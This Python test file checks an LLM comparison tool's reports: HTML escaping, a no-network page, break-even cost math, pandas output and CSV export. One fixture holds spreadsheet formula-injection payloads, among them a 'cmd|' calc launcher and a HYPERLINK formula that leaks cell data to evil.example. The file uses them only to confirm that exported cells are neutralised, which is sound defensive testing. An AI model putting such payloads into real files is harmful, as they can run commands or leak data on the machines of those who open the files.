"""The HTML report's page, the break-even figure, pandas and notebook views, on known content."""

from __future__ import annotations

import csv
import html
import json
import math
import re
import subprocess
import sys
from decimal import Decimal
from pathlib import Path

import pytest

from helpers import report_data
from llmcompare import Usage
from llmcompare.cost import Cost
from llmcompare.errors import ConfigurationError
from llmcompare.record import Comparison
from llmcompare.report import notes, print_report, write_csv, write_html

BLOB = re.compile(r'<script type="application/json" id="report-data">(.*?)</script>', re.S)


@pytest.fixture(scope="module")
def record() -> Comparison:
    return report_data.comparison()


def _blob(page: str) -> dict[str, object]:
    (text,) = BLOB.findall(page)
    data: dict[str, object] = json.loads(text)
    return data


def test_hostile_answers_stay_data(record: Comparison, tmp_path: Path) -> None:
    page = write_html(record, tmp_path / "report.html").read_text(encoding="utf-8")
    # The answer is a </script> breakout and an onerror handler: neither appears as markup...
    assert report_data.HOSTILE not in page
    assert "<img src=x" not in page
    assert page.count("</script>") == 2  # the blob's own end and the script's
    # ...and the blob parses back to the exact answers (the browser test shows them as text).
    data = _blob(page)
    items = {i["id"]: i for i in data["items"]}  # type: ignore[attr-defined]
    local, api = items["hostile"]["c"]
    assert local[0]["a"] == api[0]["a"] == report_data.HOSTILE
    assert items["broken"]["c"][1][0]["e"].startswith("BackendError")


def test_the_page_needs_no_network(record: Comparison, tmp_path: Path) -> None:
    page = write_html(record, tmp_path / "report.html").read_text(encoding="utf-8")
    # No file or address to fetch: no src/href out of the page, a policy that forbids fetching.
    assert not re.search(r"""(?:src|href)\s*=\s*["']?(?:https?:|//)""", page)
    assert "default-src 'none'" in page
    assert "<img" not in page.replace("\\u003cimg", "")  # charts are inline SVG, not images


def test_the_decision_view_and_stamp_are_on_the_page(record: Comparison, tmp_path: Path) -> None:
    page = write_html(record, tmp_path / "report.html").read_text(encoding="utf-8")
    # $1/h kept on 730 h = $730 a month against $0.00125 a request: 584,000 requests, stated
    # with one rounding in the sentence and on the chart.
    assert "above ~580,000 requests a month, hosting fake:local on this hardware" in page
    assert "~580,000 / month" in page  # the crossover marked on the chart
    assert "584,000" not in page
    assert "kept on 730 h a month ($730.00 per machine)" in page
    assert page.count("<svg") == 5
    assert record.run.llmcompare_version in page
    assert record.differences[0].verdict() in page


def test_the_decision_view_says_what_its_dollars_are(record: Comparison, tmp_path: Path) -> None:
    page = write_html(record, tmp_path / "report.html").read_text(encoding="utf-8")
    assert "not a correct answer: weigh it against the quality above" in page
    assert "as if the machine were paid only while it works" in page
    assert "paid per second of use" in page
    assert "paid per token" in page
    # A local request on a fast machine costs a fraction of a cent: shown, not rounded to 0.
    # The fake's throughput is measured, so a busy test machine would make it slower: fix it.
    local = record.summaries[0].model_copy(update={"output_tokens_per_s": 2000.0})
    record = record.model_copy(update={"summaries": (local, *record.summaries[1:])})
    page = write_html(record, tmp_path / "fast.html").read_text(encoding="utf-8")
    assert local.output_tokens_per_s is not None
    per_s = local.output_tokens_per_s / (local.usage.output_tokens / local.succeeded)
    hardware = record.run.hardware
    assert hardware is not None
    full_use = float(hardware.usd_per_hour) / (per_s * 3600)
    assert full_use < 5e-7
    # Per 1,000 requests, three significant figures in plain decimals (no exponent).
    shown = re.search(r"\$([0-9.]+) per 1,000 requests if the machine is busy", page)
    assert shown is not None
    assert float(shown[1]) == pytest.approx(full_use * 1000, rel=0.005)
    assert "$0.000000" not in page
    # Dollars per 1,000 correct answers by hand: the API's $0.00625 over its 3 correct answers.
    assert f"{0.00625 / 3 * 1000:.2f}" == "2.08"
    assert "<td>$2.08</td>" in page


def test_the_page_marks_warnings_and_shows_each_pair_once(
    record: Comparison, tmp_path: Path
) -> None:
    page = write_html(record, tmp_path / "report.html").read_text(encoding="utf-8")
    (listed,) = re.findall(r'<ul class="notes">(.*?)</ul>', page, re.S)
    shown = [
        (bool(warn), html.unescape(text))
        for warn, text in re.findall(r'<li( class="warn")?>(.*?)</li>', listed, re.S)
    ]
    pair = record.differences[0]
    # The notes under the pairs table are every note but the pairs', warnings marked as such.
    expected = [n for n in notes(record) if not n.startswith(pair.line())]
    assert [text for _, text in shown] == expected
    assert [warn for warn, _ in shown] == [n.startswith("! ") for n in expected]
    assert any(warn for warn, _ in shown)  # the API's failure
    assert html.unescape(page).count(pair.verdict()) == 1  # in the pairs table only


def test_5000_items_by_3_models_stay_under_10_mb(tmp_path: Path) -> None:
    big = report_data.large(5000)
    path = write_html(big, tmp_path / "report.html")
    assert path.stat().st_size < 10_000_000
    data = _blob(path.read_text(encoding="utf-8"))
    assert len(data["items"]) == 5000  # type: ignore[arg-type]
    assert all(len(i["c"]) == 3 for i in data["items"])  # type: ignore[attr-defined]


def _hand_made(record: Comparison, *, tokens_per_s: float) -> Comparison:
    """The local model at a known throughput and energy, on hardware at a known $/hour."""
    hardware = record.run.hardware
    assert hardware is not None
    hardware = hardware.model_copy(
        update={"usd_per_hour": Decimal("1.00"), "usd_per_kwh": Decimal("0.20")}
    )
    local, api = record.summaries
    # 6 requests of 500 output tokens each, 0.001 kWh each.
    local = local.model_copy(
        update={
            "output_tokens_per_s": tokens_per_s,
            "usage": Usage(input_tokens=600, output_tokens=3000),
            "cost": Cost(usd=Decimal("0.01"), kwh=Decimal("0.006")),
        }
    )
    run = record.run.model_copy(update={"hardware": hardware})
    return record.model_copy(update={"run": run, "summaries": (local, api)})


def test_break_even_matches_a_hand_computation(record: Comparison) -> None:
    found = _hand_made(record, tokens_per_s=500.0).break_even("fake:local", "fake:api")
    # By hand: the machine costs $1.00 x 730 h = $730 a month; each local request adds
    # 0.001 kWh x $0.20 = $0.0002; each API request is 1,000 input x $0.50/M + 500 output x
    # $1.50/M = $0.00125. Equal when 730 + 0.0002 N = 0.00125 N: N = 730 / 0.00105.
    expected = 730 / (0.00125 - 0.0002)
    assert found.crossover == pytest.approx(expected)  # 695,238 requests a month
    # One machine serves 500 / 500 = 1 request/s, 2,628,000 a month: the crossover fits on it.
    assert expected < 1 * 3600 * 730
    assert found.cheaper_above == "fake:local"
    assert found.sentence() == (
        "above ~700,000 requests a month, hosting fake:local on this hardware costs less than "
        "fake:api"
    )
    local, api = found.lines
    assert local is not None
    assert api is not None
    assert local.monthly_usd(expected * 0.99) > api.monthly_usd(expected * 0.99)
    assert local.monthly_usd(expected * 1.01) < api.monthly_usd(expected * 1.01)
    # Past one machine's capacity a second one is paid for.
    assert local.monthly_usd(3_000_000) == pytest.approx(2 * 730 + 3_000_000 * 0.0002)
    assert any("kept on 730 h a month" in a for a in found.assumptions)
    assert any("$1.25 per 1,000 requests, paid per token" in a for a in found.assumptions)


def _hand_costs(volume: float, capacity: float) -> tuple[float, float]:
    """Local and API dollars a month by hand: whole machines at $730, $0.0002 vs $0.00125."""
    return math.ceil(volume / capacity) * 730 + 0.0002 * volume, 0.00125 * volume


def test_a_second_machine_moves_the_break_even_to_where_hosting_stays_cheaper(
    record: Comparison,
) -> None:
    # 200 tokens/s over 500 tokens a request: 0.4 request/s, 1,051,200 a month per machine, so
    # the first crossover (695,238) lies between half and all of one machine's capacity.
    capacity = 200 / 500 * 3600 * 730
    first = 730 / (0.00125 - 0.0002)
    assert capacity / 2 < first < capacity
    found = _hand_made(record, tokens_per_s=200.0).break_even("fake:local", "fake:api")
    # Independent truth: walk the volumes in steps of 100 and keep the last one the API wins.
    last_api_win = max(
        n
        for n in range(100, int(10 * capacity), 100)
        if _hand_costs(n, capacity)[1] < _hand_costs(n, capacity)[0]
    )
    assert found.crossover is not None
    assert last_api_win <= found.crossover < last_api_win + 100
    # The reviewer's case: 1.2M requests need two machines and the API is cheaper there.
    local_usd, api_usd = _hand_costs(1_200_000, capacity)
    assert local_usd == pytest.approx(1700)
    assert api_usd == pytest.approx(1500)
    assert found.crossover > 1_200_000
    assert found.first_crossover == pytest.approx(first)
    assert found.machines == 2
    assert found.sentence() == (
        "above ~1,400,000 requests a month, hosting fake:local on this hardware costs less "
        "than fake:api for good (2 machines); from ~700,000 up to there the cheaper one "
        "alternates: fake:api costs less just after each added machine"
    )


def test_the_chart_marks_both_crossovers_with_one_rounding(
    record: Comparison, tmp_path: Path
) -> None:
    made = _hand_made(record, tokens_per_s=200.0)
    page = write_html(made, tmp_path / "report.html").read_text(encoding="utf-8")
    assert "~1,400,000 / month" in page
    assert "first ~700,000 / month" in page


def _with_completions(record: Comparison, model: str, **update: object) -> Comparison:
    rows = []
    for i, row in enumerate(record.rows):
        if row.model == model and row.completion is not None:
            values = {k: (v[i % len(v)] if isinstance(v, tuple) else v) for k, v in update.items()}
            completion = row.completion.model_copy(update=values)
            rows.append(row.model_copy(update={"completion": completion}))
        else:
            rows.append(row)
    return record.model_copy(update={"rows": tuple(rows)})


def test_ray_workers_each_count_as_a_machine(record: Comparison) -> None:
    # 1,000 tokens/s measured in total over two workers: each serves 500 tokens/s, one request
    # a second, 2,628,000 a month, and each is a machine at $1/h.
    made = _with_completions(
        _hand_made(record, tokens_per_s=1000.0), "fake:local", worker=("ray-0", "ray-1")
    )
    found = made.break_even("fake:local", "fake:api")
    local, _ = found.lines
    assert local is not None
    assert local.capacity == pytest.approx(1 * 3600 * 730)
    assert local.full_use_usd_per_request == pytest.approx(1 / 3600 + 0.0002)
    assert found.crossover == pytest.approx(730 / (0.00125 - 0.0002))
    assert any(
        "1000.0 output tokens/s in total over 2 workers (ray-0, ray-1), each taken as one "
        "machine at $1/h serving 500.0 tokens/s" in a
        for a in found.assumptions
    )
    # One worker (or none named) is one machine serving all it measured.
    alone = _hand_made(record, tokens_per_s=1000.0).break_even("fake:local", "fake:api")
    assert alone.lines[0] is not None
    assert alone.lines[0].capacity == pytest.approx(2 * 3600 * 730)


def test_the_assumptions_name_the_price_tier(record: Comparison) -> None:
    plain = record.break_even("fake:local", "fake:api")
    assert any("at its standard (interactive) prices" in a for a in plain.assumptions)
    batched = _with_completions(record, "fake:api", batch_id="batch_1")
    found = batched.break_even("fake:local", "fake:api")
    assert any("at its Batch API prices" in a for a in found.assumptions)
    half = _with_completions(record, "fake:api", batch_id=("batch_1", None))
    some = half.break_even("fake:local", "fake:api")
    n_batched = sum(
        1 for r in half.rows if r.completion is not None and r.completion.batch_id is not None
    )
    assert any(f"{n_batched} of 5 requests at the Batch API tier" in a for a in some.assumptions)


def test_a_machine_too_slow_never_breaks_even(record: Comparison) -> None:
    # 5 tokens/s: 0.01 request/s, 26,280 a month, fewer than the 695,238 needed to pay off.
    found = _hand_made(record, tokens_per_s=5.0).break_even("fake:local", "fake:api")
    assert found.crossover is None
    assert found.cheaper_above == "fake:api"
    assert found.reason is not None
    # Fully used, a request costs $1 / 36 requests an hour + $0.0002 of energy.
    assert f"{(1 / 36 + 0.0002) * 1000:.1f}" == "28.0"  # three significant figures: $28
    assert "$28 per 1,000 requests" in found.reason


def test_two_api_models_have_no_crossover(record: Comparison) -> None:
    with pytest.raises(KeyError, match="not a model of this run"):
        record.break_even("fake:local", "nope")
    same = record.break_even("fake:api", "fake:api")
    assert same.crossover is None
    assert same.reason == "both are API and cost the same per request"


def test_the_terminal_report_says_the_break_even(record: Comparison) -> None:
    from rich.console import Console

    console = Console(record=True, width=200)
    print_report(record, console)
    text = console.export_text()
    assert (
        "break-even: above ~580,000 requests a month, hosting fake:local on this hardware costs "
        "less than fake:api" in text
    )


def test_to_pandas_has_the_csv_columns_and_rows(record: Comparison, tmp_path: Path) -> None:
    frame = record.to_pandas()
    with write_csv(record, tmp_path / "answers.csv").open(encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert list(frame.columns) == list(rows[0])
    assert len(frame) == len(rows) == 12
    assert list(frame["item_id"]) == [r["item_id"] for r in rows]
    assert list(frame["text"].fillna("")) == [r["text"] for r in rows]
    broken = frame[(frame["item_id"] == "broken") & (frame["model"] == "fake:api")].iloc[0]
    assert broken["error_type"] == "BackendError"
    assert not broken["ok"]
    assert frame["score:contains"].sum() == sum(float(r["score:contains"] or 0) for r in rows)


def test_to_pandas_keeps_an_empty_answer_apart_from_an_error(record: Comparison) -> None:
    rows = tuple(
        r.model_copy(update={"completion": r.completion.model_copy(update={"text": ""})})
        if r.item_id == "sum" and r.model == "fake:api" and r.completion is not None
        else r
        for r in record.rows
    )
    frame = record.model_copy(update={"rows": rows}).to_pandas()
    empty = (frame["item_id"] == "sum") & (frame["model"] == "fake:api")
    failed = (frame["item_id"] == "broken") & (frame["model"] == "fake:api")
    assert list(frame[empty]["text"]) == [""]
    assert list(frame[empty]["ok"]) == [True]
    assert frame[empty]["error_type"].isna().all()
    assert frame[failed]["text"].isna().all()
    assert list(frame[failed]["ok"]) == [False]


def test_to_pandas_without_pandas_names_the_install(
    record: Comparison, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "pandas", None)
    with pytest.raises(ConfigurationError, match=r"pip install pandas"):
        record.to_pandas()


def test_a_notebook_shows_the_summary(record: Comparison) -> None:
    shown = record._repr_html_()
    assert "<table>" in shown
    assert "fake:local" in shown
    assert "fake:api" in shown
    assert record.differences[0].verdict() in shown


def test_row_lookups_follow_a_copy_with_new_rows(record: Comparison) -> None:
    assert record.row("sum", "fake:api").completion is not None
    rows = tuple(r.model_copy(update={"scores": {"contains": 0.5}}) for r in record.rows)
    copy = record.model_copy(update={"rows": rows})
    assert copy.row("sum", "fake:api").scores == {"contains": 0.5}
    assert record.row("sum", "fake:api").scores == {"contains": 1.0}
    with pytest.raises(KeyError):
        record.row("sum", "fake:api", sample=3)


def _cli_without_jinja2(tmp_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
    # Jinja2 is installed here: a fresh interpreter is made to behave as if it were not.
    prompts = tmp_path / "prompts.jsonl"
    prompts.write_text('{"id": "a", "prompt": "hi", "reference": "hi"}\n', encoding="utf-8")
    code = (
        "import sys, importlib.util as u\n"
        "real = u.find_spec\n"
        "u.find_spec = lambda name, *a: None if name == 'jinja2' else real(name, *a)\n"
        "from llmcompare.cli import main\n"
        f"sys.argv = ['llmcompare', 'compare', {str(prompts)!r}, '-m', 'fake', *{args!r}]\n"
        "main()\n"
    )
    return subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=False, timeout=120
    )


def test_without_jinja2_the_default_run_skips_the_page_and_html_is_refused(
    tmp_path: Path,
) -> None:
    done = _cli_without_jinja2(tmp_path, "--out", str(tmp_path / "run"), "--no-cache")
    assert done.returncode == 0, done.stderr
    assert "no report.html without Jinja2" in done.stderr
    assert (tmp_path / "run" / "comparison.json").exists()
    assert not (tmp_path / "run" / "report.html").exists()

    refused = _cli_without_jinja2(tmp_path, "-f", "html", "--out", str(tmp_path / "asked"))
    assert refused.returncode == 2
    assert "Jinja2, which is not installed" in refused.stderr
    assert not (tmp_path / "asked").exists()


def test_a_nan_score_becomes_no_score_on_the_page(record: Comparison, tmp_path: Path) -> None:
    rows = tuple(
        r.model_copy(update={"scores": {"contains": float("nan")}}) if r.item_id == "sum" else r
        for r in record.rows
    )
    page = write_html(record.model_copy(update={"rows": rows}), tmp_path / "r.html").read_text()
    items = {i["id"]: i for i in _blob(page)["items"]}  # type: ignore[attr-defined]
    assert items["sum"]["c"][0][0]["s"] == {"contains": None}
    assert items["capital"]["c"][0][0]["s"] == {"contains": 1.0}


def test_a_machine_free_by_the_hour_is_cheaper_at_every_volume(record: Comparison) -> None:
    made = _hand_made(record, tokens_per_s=500.0)
    assert made.run.hardware is not None
    free = made.run.hardware.model_copy(update={"usd_per_hour": Decimal(0)})
    found = made.model_copy(
        update={"run": made.run.model_copy(update={"hardware": free})}
    ).break_even("fake:api", "fake:local")
    assert found.crossover is None
    assert found.cheaper_above == "fake:local"
    assert found.sentence().startswith("fake:api vs fake:local: fake:local costs less at every")


# -- issue 22, item 21: no cell of a CSV file is a formula ----------------------------------------

FORMULAS = {
    "=cmd|' /C calc'!A0": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+sum": "+1+cmd|' /C calc'!A0",
    "-minus": "-2+3",
    "@at": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "number": "-5",
}


def _formula_record() -> Comparison:
    from llmcompare.backends.fake import FunctionModel
    from llmcompare.comparison import compare
    from llmcompare.prompts import PromptItem
    from llmcompare.scorers import Contains

    items = [PromptItem(id=i, prompt=i, reference="1") for i in FORMULAS]
    evil = FunctionModel(lambda r: FORMULAS[r.messages[-1].content], name="evil")
    plain = FunctionModel(lambda r: "1", name="plain")
    return compare(
        {"=evil()": evil, "@plain": plain},
        items,
        scorers=[Contains()],
        progress=False,
        cache=False,
    )


def _is_number(cell: str) -> bool:
    return re.fullmatch(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", cell) is not None


# issue 22, item 21
@pytest.mark.filterwarnings("ignore::llmcompare.cost.UnpricedModelWarning")  # fake models
def test_no_csv_cell_starts_a_formula_and_numbers_stay_numbers(tmp_path: Path) -> None:
    from llmcompare.report import write_pairs_csv, write_summary_csv

    record = _formula_record()
    files = [
        write_csv(record, tmp_path / "comparison.csv"),
        write_summary_csv(record, tmp_path / "summary.csv"),
        write_pairs_csv(record, tmp_path / "pairs.csv"),
    ]
    for path in files:
        with path.open(encoding="utf-8", newline="") as f:
            cells = [cell for row in csv.reader(f) for cell in row]
        formulas = [
            c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not _is_number(c)
        ]
        assert formulas == [], path.name
    with files[0].open(encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    answers = {(r["item_id"], r["model"]): r["text"] for r in rows}
    # Prefixed with ' as OWASP recommends: a spreadsheet shows the text, runs nothing.
    for item, answer in FORMULAS.items():
        shown = answer if item == "number" else "'" + answer
        assert answers[("'" + item if item[0] in "=+-@" else item, "'=evil()")] == shown
    assert {r["model"] for r in rows} == {"'=evil()", "'@plain"}
    # Numbers stay numbers, a negative one too: the paired difference plain - evil.
    with files[2].open(encoding="utf-8", newline="") as f:
        (pair,) = list(csv.DictReader(f))
    assert float(pair["delta"]) == record.differences[0].difference.delta
    # The frame holds the record's values as they are: it is data, not a file.
    assert set(record.to_pandas()["text"]) == {*FORMULAS.values(), "1"}


# issue 22, item 25
def test_the_terminal_report_shows_a_sample_of_the_answers_and_where_the_rest_are() -> None:
    from rich.console import Console

    record = report_data.large(30, models=("llama:a", "chatgpt:b"))
    console = Console(record=True, width=200)
    print_report(record, console, full_answers="every answer is in run/comparison.csv")
    text = console.export_text()
    shown = set(re.findall(r"item-\d{5}", text))
    assert shown == {f"item-{i:05d}" for i in range(10)}
    assert "10 of 30 items shown; every answer is in run/comparison.csv" in text
    everything = Console(record=True, width=200)
    print_report(record, everything, items=None)
    assert len(set(re.findall(r"item-\d{5}", everything.export_text()))) == 30
    # A small run shows every item, and says nothing about a sample.
    small = Console(record=True, width=200)
    print_report(report_data.large(4, models=("llama:a",)), small)
    assert "items shown" not in small.export_text()


def test_the_terminal_report_prints_a_model_id_before_a_colon_as_typed(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    # "chatgpt:x: $..." holds ":x:", an emoji code to rich (❌), which escaping leaves alone.
    monkeypatch.setenv("COLUMNS", "200")
    print_report(report_data.large(2, models=("chatgpt:x",)))
    out = capsys.readouterr().out
    assert "\nchatgpt:x: $" in out  # the cost line, the model id first
    assert "chatgpt❌" not in out
    assert "❌" not in out


def test_reports_cut_short_by_a_full_disk_leave_the_earlier_ones_whole(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import errno
    import os

    from llmcompare.report import write_report

    record = report_data.comparison()
    written = write_report(record, tmp_path, ["json", "csv", "html"])
    before = {p.name: p.read_bytes() for p in written}
    # Another run's record, to be written over them when the disk fills up.
    other = record.model_copy(update={"rows": record.rows[:1]})

    def full(_fd: int) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    for fmt in ("json", "csv", "html"):
        with pytest.raises(OSError, match="No space left"):
            write_report(other, tmp_path, [fmt])
    # Every file as it was, and no temporary file left beside them.
    assert {p.name: p.read_bytes() for p in tmp_path.iterdir()} == before
